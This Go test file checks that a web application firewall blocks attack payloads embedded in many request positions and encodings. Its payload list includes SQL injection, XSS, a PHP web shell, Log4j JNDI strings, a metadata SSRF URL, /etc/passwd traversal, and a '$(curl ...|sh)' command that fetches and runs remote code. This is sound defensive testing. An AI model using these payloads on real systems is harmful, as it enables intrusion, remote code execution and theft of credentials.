package e2e

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A payload is an attack of a class, as plain text.
type payload struct{ class, text string }

func payloads() []payload {
	return []payload{
		{"sql union", injection},
		{"sql tautology", `x' OR '1'='1' -- -`},
		{"sql stacked", `1; DROP TABLE users; --`},
		{"sql time", `1' AND SLEEP(5)-- -`},
		{"script", `<script>alert(document.cookie)</script>`},
		{"script in an attribute", `"><img src=x onerror=alert(1)>`},
		{"command", `; cat /etc/passwd`},
		{"command in a substitution", `$(curl http://198.51.100.7/x|sh)`},
		{"path", `../../../../etc/passwd`},
		{"remote file", `http://198.51.100.7/shell.txt?`},
		{"php", `<?php system($_GET['c']); ?>`},
		{"log4j", `${jndi:ldap://198.51.100.7/a}`},
		{"log4j in pieces", `${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}`},
		{"java", `java.lang.Runtime.getRuntime().exec("id")`},
		{"node", `require('child_process').exec('id')`},
		{"metadata", `http://169.254.169.254/latest/meta-data/iam/`},
	}
}

// A place is where a payload is put, and how it is written there.
type place struct {
	name string
	put  func(text string) string // a request
	not  string                   // classes that it does not have, or that nobody looks for there: see docs/waf.md
}

func jsonText(s string) string {
	return strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s)
}

// escapedJSON writes every letter as an escape.
func escapedJSON(s string) string {
	var b strings.Builder
	for _, r := range s {
		fmt.Fprintf(&b, `\u%04x`, r)
	}
	return b.String()
}

func xmlText(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(s)
}

// references writes every letter as a character reference.
func references(s string) string {
	var b strings.Builder
	for i, r := range s {
		if i%2 == 0 {
			fmt.Fprintf(&b, "&#%d;", r)
		} else {
			fmt.Fprintf(&b, "&#x%x;", r)
		}
	}
	return b.String()
}

// everyByte escapes every byte.
func everyByte(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

func typed(kind string) string { return "Content-Type: " + kind }

func waf(method, target, body string, lines ...string) string {
	return request(method, target, body, append([]string{"User-Agent: Mozilla/5.0", "Accept: */*"}, lines...)...)
}

func part(head, body string) string {
	return multipart("Content-Disposition: form-data; " + head + "\r\n\r\n" + body)
}

func headPlaces() []place {
	query := func(q string) string { return waf("GET", "/public/x?"+q, "") }
	return []place{
		{name: "query", put: func(s string) string { return query("a=" + url.QueryEscape(s)) }},
		{name: "query, every byte escaped", put: func(s string) string { return query("a=" + everyByte(s)) }},
		{name: "query, as a name", put: func(s string) string { return query(url.QueryEscape(s) + "=1") }, not: "remote file"},
		{name: "query, last of a name", put: func(s string) string { return query("a=1&a=2&a=" + url.QueryEscape(s)) }},
		{name: "query, first of a name", put: func(s string) string { return query("a=" + url.QueryEscape(s) + "&a=2&A=3") }},
		{name: "query, in brackets", put: func(s string) string { return query("a[b][]=" + url.QueryEscape(s)) }},
		{name: "query, behind a semicolon", put: func(s string) string { return query("b=1;a=" + url.QueryEscape(s)) }, not: "remote file"},
		{name: "query, of a POST", put: func(s string) string {
			return waf("POST", "/public/x?a="+url.QueryEscape(s), "b=1", typed("application/x-www-form-urlencoded"))
		}},
		{name: "query, of a DELETE", put: func(s string) string { return waf("DELETE", "/public/x?a="+url.QueryEscape(s), "") }},
		{name: "cookie", put: func(s string) string { return waf("GET", "/public/x", "", "Cookie: a=1; b="+url.QueryEscape(s)) }, not: "remote file, command in a substitution"},
		{name: "cookie as it is", put: func(s string) string { return waf("GET", "/public/x", "", "Cookie: a=1; b="+s) }, not: "remote file, sql stacked"},
		{name: "second of two cookies", put: func(s string) string {
			return waf("GET", "/public/x", "", "Cookie: a=1; b=2", "Cookie: c="+url.QueryEscape(s))
		}, not: "remote file, command in a substitution"},
		{name: "User-Agent", put: func(s string) string {
			return request("GET", "/public/x", "", "Accept: */*", "User-Agent: Mozilla/5.0 "+s)
		}, not: "remote file, metadata, sql stacked, command, command in a substitution"},
		{name: "path", put: func(s string) string { return waf("GET", "/public/"+url.PathEscape(s)+"/x", "") }},
		{name: "end of the path", put: func(s string) string { return waf("GET", "/public/items/1"+url.PathEscape(s), "") }},
		{name: "an own header", put: func(s string) string { return waf("GET", "/public/x", "", "X-Tenant: "+s) }, not: "sql union, sql tautology, sql stacked, sql time, command, command in a substitution, remote file, node, metadata"},
		{name: "Referer", put: func(s string) string { return waf("GET", "/public/x", "", "Referer: https://example.com/?q="+s) }, not: "remote file, metadata, path, sql stacked, command, command in a substitution, node"},
	}
}

func bodyPlaces() []place {
	post := func(body, kind string) string { return waf("POST", "/public/x", body, typed(kind)) }
	object := func(s string) string { return `{"a":{"b":[1,{"c":"` + jsonText(s) + `"}]},"d":"x"}` }
	return []place{
		{name: "form", put: func(s string) string { return post("b=1&a="+url.QueryEscape(s), "application/x-www-form-urlencoded") }},
		{name: "form of a PUT", put: func(s string) string {
			return waf("PUT", "/public/x", "a="+url.QueryEscape(s), typed("application/x-www-form-urlencoded"))
		}},
		{name: "form of a DELETE", put: func(s string) string {
			return waf("DELETE", "/public/x", "a="+url.QueryEscape(s), typed("application/x-www-form-urlencoded"))
		}},
		{name: "form, type in capitals", put: func(s string) string {
			return post("a="+url.QueryEscape(s), "APPLICATION/X-WWW-FORM-URLENCODED; CHARSET=UTF-8")
		}},
		{name: "form without a type", put: func(s string) string { return waf("POST", "/public/x", "a="+url.QueryEscape(s)) }},
		{name: "form as text", put: func(s string) string { return post("b=1&a="+url.QueryEscape(s), "text/plain") }},
		{name: "form as bytes", put: func(s string) string { return post("b=1&a="+url.QueryEscape(s), "application/octet-stream") }},
		{name: "form as a picture", put: func(s string) string { return post("b=1&a="+url.QueryEscape(s), "image/png") }},
		{name: "form as YAML", put: func(s string) string { return post("b=1&a="+url.QueryEscape(s), "application/yaml") }},
		{name: "form behind a NUL", put: func(s string) string {
			return post("\x00b=1&a="+url.QueryEscape(s+" and more"), "application/octet-stream")
		}},
		{name: "form, as a name", put: func(s string) string { return post(url.QueryEscape(s)+"=1", "application/x-www-form-urlencoded") }, not: "remote file"},
		{name: "json", put: func(s string) string { return post(object(s), "application/json") }},
		{name: "json, escaped", put: func(s string) string { return post(`{"a":"`+escapedJSON(s)+`"}`, "application/json") }},
		{name: "json, a name", put: func(s string) string { return post(`{"`+jsonText(s)+`":1}`, "application/json") }, not: "remote file"},
		{name: "json, first of a name", put: func(s string) string { return post(`{"a":"`+jsonText(s)+`","a":"x"}`, "application/json") }},
		{name: "json, a list", put: func(s string) string { return post(`["x","`+jsonText(s)+`"]`, "application/json") }},
		{name: "json, a text", put: func(s string) string { return post(`"`+jsonText(s)+`"`, "application/json") }},
		{name: "json of a vendor", put: func(s string) string { return post(object(s), "application/vnd.shop.v2+json") }},
		{name: "json in lines", put: func(s string) string { return post("{\"a\":1}\n"+object(s)+"\n", "application/x-ndjson") }},
		{name: "json of AWS", put: func(s string) string { return post(object(s), "application/x-amz-json-1.1") }},
		{name: "json as a form", put: func(s string) string { return post(object(s), "application/x-www-form-urlencoded") }},
		{name: "json as text", put: func(s string) string { return post(object(s), "text/plain") }},
		{name: "json as bytes, escaped", put: func(s string) string { return post(` {"a":"`+escapedJSON(s)+`"}`, "application/octet-stream") }},
		{name: "json in UTF-16, as bytes", put: func(s string) string { return post(utf16Text(object(s)), "application/octet-stream") }},
		{name: "json without a type", put: func(s string) string { return waf("POST", "/public/x", object(s)) }},
		{name: "json of a PATCH", put: func(s string) string {
			return waf("PATCH", "/public/x", object(s), typed("application/merge-patch+json"))
		}},
		{name: "multipart", put: func(s string) string { return post(part(`name="a"`, s), "multipart/form-data; boundary=XyZ") }},
		{name: "multipart, a name", put: func(s string) string {
			return post(part(`name="`+strings.NewReplacer(`"`, "%22", `\`, `\\`).Replace(s)+`"`, "1"), "multipart/form-data; boundary=XyZ")
		}},
		{name: "multipart, the name of a file", put: func(s string) string {
			return post(part(`name="a"; filename="`+strings.NewReplacer(`"`, "%22", `\`, `\\`).Replace(s)+`.jpg"`, "1"), "multipart/form-data; boundary=XyZ")
		}},
		{name: "multipart, the name of a file in another charset", put: func(s string) string {
			return post(part(`name="a"; filename="a.jpg"; filename*=UTF-8''`+everyByte(s+".jpg"), "1"), "multipart/form-data; boundary=XyZ")
		}},
		{name: "multipart, with a type of its own", put: func(s string) string {
			return post(multipart("Content-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"+s), "multipart/form-data; boundary=XyZ")
		}},
		{name: "multipart, json in a part", put: func(s string) string {
			return post(multipart("Content-Disposition: form-data; name=\"a\"\r\nContent-Type: application/json\r\n\r\n{\"b\":\""+escapedJSON(s)+"\"}"), "multipart/form-data; boundary=XyZ")
		}},
		{name: "multipart, a field with an empty file name", put: func(s string) string {
			return post(part(`name="a"; filename=""`, s), "multipart/form-data; boundary=XyZ")
		}},
		{name: "multipart, behind a quoted boundary", put: func(s string) string { return post(part(`name="a"`, s), `multipart/form-data; boundary="XyZ"`) }},
		{name: "xml", put: func(s string) string { return post("<a><b>"+xmlText(s)+"</b></a>", "application/xml") }},
		{name: "xml, an attribute", put: func(s string) string { return post(`<a b="`+xmlText(s)+`"/>`, "text/xml") }},
		{name: "xml, references", put: func(s string) string { return post("<a>"+references(s)+"</a>", "text/xml") }},
		{name: "xml, references in an attribute", put: func(s string) string { return post(`<a b="`+references(s)+`"/>`, "text/xml") }},
		{name: "xml, CDATA", put: func(s string) string { return post("<a><![CDATA["+s+"]]></a>", "application/soap+xml") }},
		{name: "xml, of a vendor", put: func(s string) string { return post("<a>"+xmlText(s)+"</a>", "application/vnd.shop+xml") }},
		{name: "xml as text", put: func(s string) string { return post("<a>"+references(s)+"</a>", "text/plain") }},
		{name: "xml as a form", put: func(s string) string { return post("<a>"+references(s)+"</a>", "application/x-www-form-urlencoded") }},
		{name: "xml as bytes", put: func(s string) string { return post("<a>"+references(s)+"</a>", "application/octet-stream") }},
		{name: "text", put: func(s string) string { return post("Hello,\n"+s+"\n", "text/plain; charset=utf-8") }},
		{name: "csv", put: func(s string) string { return post("id,name\n1,"+s+"\n", "text/csv") }, not: "remote file"},
		{name: "graphql", put: func(s string) string { return post(`{ user(name: "`+jsonText(s)+`") { id } }`, "application/graphql") }},
	}
}

// TestPayloadsAreFoundWherever puts each payload everywhere, in each of three ways, and wants one verdict.
func TestPayloadsAreFoundWherever(t *testing.T) {
	t.Parallel()
	s := startSite(t, siteSpec{routes: `
  - {match: app.example.test/public/*, to: u, require: nothing}
  - {match: login.example.test, to: u, require: signed-in}
`, top: "waf_budget: {client: 100, burst: 10m, concurrent: 8}"})
	for _, p := range append(headPlaces(), bodyPlaces()...) {
		t.Run(p.name, func(t *testing.T) {
			for _, a := range payloads() {
				first := 0
				s.threeWays(t, p.put(a.text), func(way string, got answer) {
					if got.status != http.StatusForbidden && got.status != http.StatusBadRequest && !contains(p.not, a.class) {
						t.Errorf("%s, %s: got %d, want a refusal", a.class, way, got.status)
					}
					if got.status != http.StatusOK && contains(p.not, a.class) {
						t.Errorf("%s, %s: got %d, and it is said that nobody looks for it there", a.class, way, got.status)
					}
					if first == 0 {
						first = got.status
					} else if got.status != first {
						t.Errorf("%s, %s: got %d, and %d in HTTP/1.1", a.class, way, got.status, first)
					}
					if seen := s.backend.drain(); got.status != http.StatusOK && len(seen) > 0 {
						t.Errorf("%s, %s: the upstream saw it", a.class, way)
					}
				})
			}
		})
	}
}

func contains(list, word string) bool {
	for item := range strings.SplitSeq(list, ", ") {
		if item == word {
			return true
		}
	}
	return false
}

// TestAClientThatLeavesIsNotBlocked resets its stream in the middle of its body, as people do who close a page.
func TestAClientThatLeavesIsNotBlocked(t *testing.T) {
	t.Parallel()
	s := startSite(t, siteSpec{routes: bodyRoutes})
	conn := dialTLS(t, s.addr, appHost, "h2")
	fr := http2.NewFramer(conn, conn)
	io.WriteString(conn, http2.ClientPreface)
	fr.WriteSettings()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range []field{
		{":method", "POST"}, {":scheme", "https"}, {":authority", appHost}, {":path", "/left"}, {"content-type", "text/plain"}, {"user-agent", "x"}, {"accept", "*/*"},
	} {
		enc.WriteField(hpack.HeaderField{Name: f.name, Value: f.value})
	}
	writeHeaders(fr, block.Bytes(), false)
	fr.WriteData(1, false, []byte("the beginning of a letter that"))
	fr.WriteRSTStream(1, http2.ErrCodeCancel)
	event := s.event(func(e map[string]any) bool { return e["path"] == "/left" })
	if record, _ := event["waf"].(map[string]any); event["status"] != 499.0 || record["verdict"] == "block" {
		t.Errorf("event: got status %v and %v, want 499 and no block", event["status"], record)
	}
	if got := sendRaw(t, s.addr, appHost, waf("GET", "/", "")); got.status != http.StatusOK {
		t.Errorf("its next request: got %d, want 200", got.status)
	}
}

// TestTheWAFChangesNoAnswer compares what a client gets with the WAF in each mode with what it gets without.
func TestTheWAFChangesNoAnswer(t *testing.T) {
	t.Parallel()
	s := startSite(t, siteSpec{routes: `
  - {match: app.example.test/off, to: u, require: nothing, waf: off}
  - {match: app.example.test/block, to: u, require: nothing, waf: block}
  - {match: app.example.test/count, to: u, require: nothing, waf: count}
  - {match: app.example.test/answers, to: u, require: nothing, waf: {groups: [leakages]}}
  - {match: app.example.test/headers, to: u, require: nothing, waf: {body: headers}}
  - {match: login.example.test, to: u, require: signed-in}
`})
	for _, reply := range []string{
		"HTTP/1.1 201 Created\r\nLocation: /x/1\r\nEtag: \"a\"\r\nContent-Type: application/json\r\nContent-Length: 8\r\n\r\n{\"a\":1}\n",
		"HTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\nHTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n",
		"HTTP/1.1 204 No Content\r\nX-A: 1\r\nX-A: 2\r\n\r\n",
		"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\n<p>no",
		"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n2\r\nde\r\n0\r\n\r\n",
	} {
		s.backend.answer = func(seenRequest) string { return reply }
		for _, body := range []string{"", `{"a":"an ordinary text"}`} {
			var want [3]string
			for _, mode := range []string{"off", "block", "count", "answers", "headers"} {
				n := 0
				s.threeWays(t, waf("POST", "/"+mode, body, typed("application/json")), func(way string, got answer) {
					text := fmt.Sprint(got.status, withoutID(got))
					if mode == "off" {
						want[n] = text
					} else if text != want[n] {
						t.Errorf("%s, %s: got %s\nwithout the WAF %s", mode, way, text, want[n])
					}
					n++
				})
			}
		}
	}
}
